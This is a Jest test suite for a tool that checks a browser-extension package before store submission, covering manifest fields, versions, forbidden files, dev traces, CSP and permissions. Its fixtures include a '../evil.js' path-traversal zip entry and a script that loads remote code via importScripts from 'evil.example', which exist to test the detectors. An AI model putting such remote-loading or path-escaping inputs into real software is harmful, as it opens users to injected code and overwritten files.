/** @jest-environment node */
import {
  checkDevTraces,
  checkDynamicCode,
  checkForbiddenFiles,
  checkHtmlReferences,
  checkManifestFiles,
  checkZipSize,
  resolveRef,
  runsWebAssembly
} from "~scripts/store-check/bundle-checks"
import { MAX_ZIP_BYTES } from "~scripts/store-check/config"
import { checkCsp, parseCsp } from "~scripts/store-check/csp-checks"
import {
  checkPackageFiles,
  checkPackageZip,
  releasedVersionsFor
} from "~scripts/store-check/index"
import {
  checkManifest,
  checkVersionAgainstReleases,
  compareVersions,
  parseManifest,
  parseVersion
} from "~scripts/store-check/manifest-checks"
import {
  checkPermissions,
  isBroadHostPattern
} from "~scripts/store-check/permission-checks"
import { prepareForStore } from "~scripts/store-check/prepare"
import { readZip } from "~scripts/store-check/read-zip"
import type { FileMap, Manifest } from "~scripts/store-check/types"
import { writeZip } from "~scripts/store-check/write-zip"

import {
  goodFiles,
  goodManifest,
  messages,
  page,
  withFile,
  withManifest
} from "./store-check-fixture"

function manifestProblems(change: (m: Manifest) => void): string {
  const m = goodManifest()
  change(m)
  return messages(checkManifest(m))
}

describe("the good fixture", () => {
  it("passes every offline check", () => {
    const result = checkPackageFiles(goodFiles(), {
      releasedVersions: [],
      zipBytes: 1000
    })
    expect(result.problems).toEqual([])
    expect(result.notes).toContain(
      "version 1.0.0: no earlier release recorded for this target"
    )
  })

  it("passes as a zip, and zipping is deterministic", () => {
    const zip = writeZip(goodFiles())
    expect(writeZip(goodFiles())).toEqual(zip)
    const result = checkPackageZip(zip, { releasedVersions: ["0.9"] })
    expect(result.problems).toEqual([])
    expect([...result.files.keys()]).toEqual([...goodFiles().keys()].sort())
  })
})

describe("zip and manifest location", () => {
  it("reports a file that is not a zip", () => {
    expect(messages(readZip(new TextEncoder().encode("nope")))).toMatch(
      /not a readable zip/
    )
  })

  it("reports entries that escape the root", () => {
    const zip = writeZip(new Map([["../evil.js", new Uint8Array([1])]]))
    expect(messages(readZip(zip))).toMatch(/"..\/evil.js" escapes/)
  })

  it("reports a missing manifest, and one nested in a folder", () => {
    expect(messages(parseManifest(new Map()).result)).toMatch(
      /manifest.json is missing/
    )
    const nested = new Map([["build/manifest.json", new Uint8Array()]])
    expect(messages(parseManifest(nested).result)).toMatch(
      /not at the zip root \(found build\/manifest.json\)/
    )
  })

  it("reports invalid JSON", () => {
    const files = withFile(goodFiles(), "manifest.json", "{ name: 1 }")
    expect(messages(parseManifest(files).result)).toMatch(/not valid JSON/)
  })
})

describe("manifest fields", () => {
  it("requires manifest_version 3", () => {
    expect(manifestProblems((m) => (m.manifest_version = 2))).toMatch(
      /manifest_version is 2; the store requires 3/
    )
  })

  it("limits the name to 75 characters and rejects a dev build's name", () => {
    expect(manifestProblems((m) => (m.name = "x".repeat(76)))).toMatch(
      /name is 76 characters; the store allows at most 75/
    )
    expect(manifestProblems((m) => (m.name = "x".repeat(75)))).toBe("")
    expect(manifestProblems((m) => (m.name = "DEV | Popup"))).toMatch(
      /starts with "DEV \|"/
    )
    expect(manifestProblems((m) => delete m.name)).toMatch(/name is missing/)
  })

  it("wants a plain-text description of 1 to 132 characters", () => {
    expect(manifestProblems((m) => (m.description = ""))).toMatch(
      /description is missing or empty/
    )
    expect(manifestProblems((m) => (m.description = "d".repeat(133)))).toMatch(
      /description is 133 characters; the store allows at most 132/
    )
    expect(manifestProblems((m) => (m.description = "d".repeat(132)))).toBe("")
    expect(
      manifestProblems((m) => (m.description = "A <b>bold</b> one"))
    ).toMatch(/description contains HTML markup/)
    expect(
      manifestProblems((m) => (m.description = "Fish &amp; chips"))
    ).toMatch(/description contains an HTML entity/)
    expect(manifestProblems((m) => (m.description = "Line\nbreak"))).toMatch(
      /description contains control characters/
    )
    expect(
      manifestProblems((m) => (m.description = "A **bold** claim"))
    ).toMatch(/description contains Markdown/)
    expect(
      manifestProblems((m) => (m.description = "Ports: 2 < 3 & 4 > 1"))
    ).toBe("")
  })

  it("validates the version format", () => {
    expect(parseVersion("1.0.0")).toEqual([1, 0, 0])
    expect(parseVersion("65535.0.0.1")).toEqual([65535, 0, 0, 1])
    expect(parseVersion("1.0.0.0.0")).toMatch(/1 to 4/)
    expect(parseVersion("1.02")).toMatch(/leading zero/)
    expect(parseVersion("1.65536")).toMatch(/above 65535/)
    expect(parseVersion("1.0-beta")).toMatch(/not a whole number/)
    expect(parseVersion("")).toMatch(/not a whole number/)
    expect(manifestProblems((m) => (m.version = "1.0.01"))).toMatch(
      /version "1.0.01" part "01" has a leading zero/
    )
    expect(manifestProblems((m) => delete m.version)).toMatch(
      /version is missing/
    )
  })

  it("rejects key and update_url", () => {
    expect(manifestProblems((m) => (m.key = "MIIB"))).toMatch(/"key" field/)
    expect(manifestProblems((m) => (m.update_url = "https://x"))).toMatch(
      /update_url/
    )
  })

  it("rejects Manifest V2 background pages and browser_action", () => {
    expect(
      manifestProblems((m) => (m.background = { scripts: ["bg.js"] }))
    ).toMatch(/background.service_worker/)
    expect(manifestProblems((m) => (m.browser_action = {}))).toMatch(
      /browser_action/
    )
  })
})

describe("version against the release record", () => {
  it("says so when nothing was released", () => {
    const result = checkVersionAgainstReleases("1.0.0", [])
    expect(result.problems).toEqual([])
    expect(result.notes).toEqual([
      "version 1.0.0: no earlier release recorded for this target"
    ])
  })

  it("compares against the highest recorded version, not the last listed", () => {
    expect(compareVersions([1, 0], [1, 0, 0])).toBe(0)
    expect(compareVersions([1, 10], [1, 9, 9])).toBe(1)
    const released = ["1.2.0", "1.10.0", "1.9.3"]
    expect(messages(checkVersionAgainstReleases("1.9.9", released))).toMatch(
      /1.9.9 is not higher than the last released version 1.10.0/
    )
    expect(messages(checkVersionAgainstReleases("1.10", released))).toMatch(
      /not higher/
    )
    const ok = checkVersionAgainstReleases("1.10.1", released)
    expect(ok.problems).toEqual([])
    expect(ok.notes).toEqual([
      "version 1.10.1 is higher than the last released 1.10.0"
    ])
  })

  it("reports an invalid version in the record", () => {
    expect(messages(checkVersionAgainstReleases("2.0", ["1.x"]))).toMatch(
      /released version "1.x"/
    )
  })

  it("reads the record per target", () => {
    const json = '{"chrome-mv3": ["1.0.0"], "edge-mv3": []}'
    expect(releasedVersionsFor(json, "chrome-mv3")).toEqual(["1.0.0"])
    expect(releasedVersionsFor(json, "edge-mv3")).toEqual([])
    expect(() => releasedVersionsFor('{"edge-mv3": "1"}', "edge-mv3")).toThrow(
      /not a list/
    )
  })

  it("fails the package check when the version was already released", () => {
    const result = checkPackageFiles(goodFiles(), {
      releasedVersions: ["1.0.0"]
    })
    expect(messages(result)).toMatch(/version 1.0.0 is not higher/)
  })
})

describe("files the manifest and pages name", () => {
  it("reports every missing manifest reference", () => {
    const files = new Map(goodFiles())
    files.delete("popup.html")
    files.delete("static/background/index.js")
    files.delete("sidepanel.html")
    const text = messages(checkManifestFiles(files, goodManifest()))
    expect(text).toMatch(/action.default_popup names popup.html/)
    expect(text).toMatch(
      /background.service_worker names static\/background\/index.js/
    )
    expect(text).toMatch(/side_panel.default_path names sidepanel.html/)
  })

  it("checks content scripts, web-accessible resources and locales", () => {
    const m = goodManifest()
    m.content_scripts = [{ matches: ["https://example.com/*"], js: ["cs.js"] }]
    m.web_accessible_resources = [
      {
        resources: ["__plasmo_hmr_proxy__", "static/*.js", "nothing/*"],
        matches: ["https://example.com/*"]
      }
    ]
    m.default_locale = "en"
    const text = messages(checkManifestFiles(goodFiles(), m))
    expect(text).toMatch(/content_scripts\[0\].js names cs.js/)
    expect(text).toMatch(/__plasmo_hmr_proxy__, which matches nothing/)
    expect(text).toMatch(/nothing\/\*, which matches nothing/)
    expect(text).not.toMatch(/static\/\*.js/)
    expect(text).toMatch(/_locales\/en\/messages.json/)
  })

  it("resolves page references like a browser", () => {
    expect(resolveRef("popup.html", "/popup.js")).toBe("popup.js")
    expect(resolveRef("tabs/a.html", "b.js?x=1")).toBe("tabs/b.js")
    expect(resolveRef("tabs/a.html", "../c.css")).toBe("c.css")
    expect(resolveRef("tabs/a.html", "/d%20e.js")).toBe("d e.js")
  })

  it("reports missing, remote and inline scripts in HTML", () => {
    const files = withFile(
      goodFiles(),
      "popup.html",
      page("/gone.js") +
        '<script src="https://cdn.example.com/x.js"></script>' +
        '<link rel="stylesheet" href="//fonts.example.com/f.css">' +
        "<script>alert(1)</script>" +
        '<script type="application/json">{"a":1}</script>'
    )
    const text = messages(checkHtmlReferences(files))
    expect(text).toMatch(
      /popup.html references \/gone.js, which is not in the zip/
    )
    expect(text).toMatch(
      /loads remote code <script src="https:\/\/cdn.example.com\/x.js">/
    )
    expect(text).toMatch(
      /loads remote content <link href="\/\/fonts.example.com\/f.css">/
    )
    expect(text).toMatch(/inline <script>/)
    expect(checkHtmlReferences(files).problems).toHaveLength(4)
  })
})

describe("files that must not ship", () => {
  it("reports maps, env files, keys, node_modules and junk", () => {
    let files = goodFiles()
    for (const path of [
      "popup.js.map",
      ".env",
      "static/.env.local",
      "keys.json",
      "key.pem",
      "node_modules/react/index.js",
      ".DS_Store"
    ]) {
      files = withFile(files, path, "x")
    }
    const result = checkForbiddenFiles(files)
    expect(result.problems).toHaveLength(7)
    const text = messages(result)
    expect(text).toMatch(/popup.js.map is a source map/)
    expect(text).toMatch(/static\/.env.local is an environment file/)
    expect(text).toMatch(/keys.json is a key file/)
    expect(text).toMatch(/key.pem is a private key/)
    expect(text).toMatch(/node_modules\/react\/index.js is node_modules/)
  })

  it("prepareForStore drops maps and the manifest key", () => {
    const m = goodManifest()
    m.key = "MIIBIjAN"
    const build = withFile(
      withFile(goodFiles(), "manifest.json", JSON.stringify(m)),
      "popup.js.map",
      "{}"
    )
    const { files, removed } = prepareForStore(build)
    expect(files.has("popup.js.map")).toBe(false)
    expect(removed).toEqual(["popup.js.map", 'manifest.json "key"'])
    const shipped = parseManifest(files).manifest!
    expect("key" in shipped).toBe(false)
    expect(shipped.name).toBe(m.name)
    expect(checkPackageFiles(files, { releasedVersions: [] }).problems).toEqual(
      []
    )
  })
})

describe("dev-build traces", () => {
  it("finds Plasmo's HMR runtime, source maps and localhost", () => {
    const files = withFile(
      withFile(
        goodFiles(),
        "popup.js",
        'const u="/__plasmo_hmr_proxy__?url=";var S="__plasmo_runtime_page_";console.log("[plasmo/parcel-runtime]: Connected");module.bundle.HMR_BUNDLE_ID=1;new WebSocket("ws://localhost:1815")\n//# sourceMappingURL=data:application/json;base64,e30='
      ),
      "popup.css",
      "body{}/*# sourceMappingURL=popup.css.map */"
    )
    const text = messages(checkDevTraces(files))
    expect(text).toMatch(/popup.js contains Plasmo's HMR proxy/)
    expect(text).toMatch(/popup.js contains Plasmo's dev runtime/)
    expect(text).toMatch(/popup.js contains Plasmo's Parcel HMR runtime/)
    expect(text).toMatch(/popup.js contains Parcel's HMR runtime/)
    expect(text).toMatch(/popup.js contains a source map reference/)
    expect(text).toMatch(/popup.js contains a reference to localhost/)
    expect(text).toMatch(/popup.css contains a source map reference/)
  })

  it("does not count parcelRequire, which prod builds have too", () => {
    expect(checkDevTraces(goodFiles()).problems).toEqual([])
  })

  it("finds the HMR proxy in the manifest but leaves the CSP to the CSP check", () => {
    const files = withManifest((m) => {
      m.web_accessible_resources = [
        { resources: ["__plasmo_hmr_proxy__"], matches: ["<all_urls>"] }
      ]
      m.content_security_policy = {
        extension_pages: "script-src 'self' http://localhost"
      }
    })
    const text = messages(checkDevTraces(files))
    expect(text).toMatch(/manifest.json contains Plasmo's HMR proxy/)
    expect(text).not.toMatch(/localhost/)
  })
})

describe("dynamic code", () => {
  it("finds eval, new Function, string timers and remote imports", () => {
    const files = withFile(
      goodFiles(),
      "popup.js",
      'eval("1");x=window.eval("2");f=new Function("a","return a");g=Function("return this");setTimeout("tick()",5);setInterval(`x`,1);importScripts("https://evil.example/x.js");import("//cdn.example/m.js")'
    )
    const text = messages(checkDynamicCode(files))
    expect(checkDynamicCode(files).problems).toHaveLength(8)
    expect(text).toMatch(/popup.js uses eval\(\)/)
    expect(text).toMatch(/uses new Function\(\)/)
    expect(text).toMatch(/setTimeout\/setInterval with a string/)
    expect(text).toMatch(/remote code import/)
  })

  it("ignores method calls and names that end in eval", () => {
    const files = withFile(
      goodFiles(),
      "popup.js",
      'page.eval(x);medieval(1);retrieval (2);setTimeout(fn,1);import("./chunk.js");const Function2=1;MSApp.execUnsafeLocalFunction(f);o.Function(1)'
    )
    expect(checkDynamicCode(files).problems).toEqual([])
  })
})

describe("content security policy", () => {
  const csp = (policy: string, key = "extension_pages") =>
    messages(checkCsp({ content_security_policy: { [key]: policy } }))

  it("parses directives", () => {
    expect(parseCsp("script-src 'self'; img-src 'self' *")).toEqual(
      new Map([
        ["script-src", ["'self'"]],
        ["img-src", ["'self'", "*"]]
      ])
    )
  })

  it("accepts the project's policy", () => {
    expect(
      csp(goodManifest().content_security_policy!["extension_pages" as never])
    ).toBe("")
  })

  it("rejects unsafe-eval, unsafe-inline and wasm-unsafe-eval", () => {
    expect(csp("script-src 'self' 'unsafe-eval'")).toMatch(
      /allows 'unsafe-eval'/
    )
    expect(csp("script-src 'self' 'unsafe-inline'")).toMatch(
      /'unsafe-inline' scripts/
    )
    expect(csp("script-src 'self' 'wasm-unsafe-eval'")).toMatch(
      /wasm-unsafe-eval/
    )
    expect(
      messages(
        checkCsp(
          {
            content_security_policy: {
              extension_pages: "script-src 'self' 'wasm-unsafe-eval'"
            }
          },
          { allowWasm: true }
        )
      )
    ).toBe("")
  })

  it("allows wasm-unsafe-eval only for a package whose scripts compile WebAssembly", () => {
    const files = (source: string): FileMap =>
      new Map([
        ["static/background/index.js", new TextEncoder().encode(source)]
      ])
    expect(runsWebAssembly(files("await WebAssembly.compile(bytes)"))).toBe(
      true
    )
    expect(runsWebAssembly(files("WebAssembly.instantiateStreaming(r)"))).toBe(
      true
    )
    expect(runsWebAssembly(files("const WebAssembly = 1; // no module"))).toBe(
      false
    )
  })

  it("rejects remote and wildcard script sources, in both keys", () => {
    expect(csp("script-src 'self' https://cdn.example.com")).toMatch(
      /allows script source https:\/\/cdn.example.com/
    )
    expect(csp("script-src 'self' https:")).toMatch(/script source https:/)
    expect(csp("script-src *")).toMatch(/script source \*/)
    expect(csp("script-src 'self' 'unsafe-eval'", "sandbox")).toMatch(
      /content_security_policy.sandbox: script-src allows 'unsafe-eval'/
    )
  })

  it("falls back to default-src only when no script directive is given", () => {
    expect(csp("default-src *")).toMatch(/default-src allows script source \*/)
    expect(csp("default-src *; script-src 'self'")).not.toMatch(/script source/)
    expect(
      csp(
        "default-src *; script-src 'self'; connect-src 'self'; frame-src 'none'"
      )
    ).toBe("")
  })

  it("rejects remote sources for connections, frames and objects, and a remote default-src behind them", () => {
    expect(
      csp("script-src 'self'; connect-src 'self' https://api.example.com")
    ).toMatch(
      /connect-src allows remote source https:\/\/api.example.com for connect-src/
    )
    expect(csp("script-src 'self'; frame-src *")).toMatch(
      /frame-src allows remote source \*/
    )
    expect(csp("script-src 'self'; object-src wss:")).toMatch(/object-src/)
    expect(csp("default-src 'self' *.example.com; script-src 'self'")).toMatch(
      /default-src allows remote source \*\.example\.com for connect-src/
    )
    // The tutorial's remote images are not a connection or a frame.
    expect(csp("script-src 'self'; img-src 'self' *; connect-src 'self'")).toBe(
      ""
    )
  })

  it("flags a dev build's localhost", () => {
    const text = csp("script-src 'self' http://localhost;")
    expect(text).toMatch(/http:\/\/localhost/)
    expect(text).toMatch(/mentions localhost/)
  })

  it("rejects the Manifest V2 string form", () => {
    expect(
      messages(checkCsp({ content_security_policy: "script-src 'self'" }))
    ).toMatch(/Manifest V2 form/)
  })
})

describe("permissions", () => {
  const permissionProblems = (change: (m: Manifest) => void) => {
    const m = goodManifest()
    change(m)
    return messages(checkPermissions(goodFiles(m), m))
  }

  it("accepts permissions the code uses", () => {
    expect(permissionProblems(() => undefined)).toBe("")
  })

  it("reports a permission the code never uses", () => {
    const files = withFile(goodFiles(), "sidepanel.js", "console.log(1)")
    expect(messages(checkPermissions(files, goodManifest()))).toMatch(
      /"sidePanel" is declared but the bundled code never uses chrome.sidePanel/
    )
    expect(
      permissionProblems((m) => (m.permissions = ["storage", "alarms"]))
    ).toMatch(/"alarms" is declared but .* chrome.alarms/)
  })

  it("reports unknown and forbidden permissions", () => {
    const text = permissionProblems(
      (m) =>
        (m.permissions = [
          "storage",
          "sidePanel",
          "teleport",
          "tabs",
          "userScripts",
          "activeTab",
          "scripting"
        ])
    )
    expect(text).toMatch(/unknown permission "teleport"/)
    expect(text).toMatch(/has "tabs"/)
    expect(text).toMatch(/has "userScripts"/)
    expect(text).not.toMatch(/has "activeTab"|has "scripting"/)
  })

  it("reports a declared content script: the widget is injected on request only", () => {
    const text = permissionProblems((m) => {
      m.content_scripts = [
        { matches: ["https://example.com/*"], js: ["cs.js"] }
      ]
    })
    expect(text).toMatch(/content_scripts\[0\] is declared/)
    expect(text).not.toMatch(/runs on every site/)
  })

  it("reports broad host access anywhere it can be granted", () => {
    const text = permissionProblems((m) => {
      m.permissions = ["storage", "sidePanel", "<all_urls>"]
      m.host_permissions = [
        "*://*/*",
        "https://*/*",
        "http://*.com/*",
        "https://api.example.com/*"
      ]
      m.content_scripts = [{ matches: ["<all_urls>"], js: ["cs.js"] }]
    })
    expect(text).toMatch(/permissions has host pattern <all_urls>/)
    expect(text).toMatch(
      /host_permissions grants access to every site \(\*:\/\/\*\/\*\)/
    )
    expect(text).toMatch(/\(https:\/\/\*\/\*\)/)
    expect(text).toMatch(/\(http:\/\/\*.com\/\*\)/)
    expect(text).not.toMatch(/api.example.com/)
    expect(text).toMatch(/content_scripts\[0\] runs on every site/)
    expect(isBroadHostPattern("https://*.example.com/*")).toBe(false)
  })
})

describe("zip size budget", () => {
  it("passes under the budget and fails over it", () => {
    expect(checkZipSize(MAX_ZIP_BYTES).problems).toEqual([])
    expect(messages(checkZipSize(MAX_ZIP_BYTES + 1))).toMatch(
      /the zip is 1.00 MiB, over the 1.00 MiB budget/
    )
    expect(messages(checkZipSize(2048, 1024))).toMatch(
      /2.0 KiB, over the 1.0 KiB budget/
    )
  })
})

describe("everything at once", () => {
  it("lists every problem, not just the first", () => {
    const files = withManifest(
      (m) => {
        m.name = "DEV | x"
        m.key = "MIIB"
        m.permissions = ["storage", "sidePanel", "tabs"]
      },
      withFile(goodFiles(), "popup.js.map", "{}")
    )
    const result = checkPackageFiles(files, {
      releasedVersions: [],
      zipBytes: MAX_ZIP_BYTES * 2
    })
    const checks = result.problems.map((p) => p.check)
    expect(checks).toEqual(
      expect.arrayContaining(["manifest", "permissions", "files", "size"])
    )
    expect(result.problems.length).toBeGreaterThanOrEqual(5)
  })
})
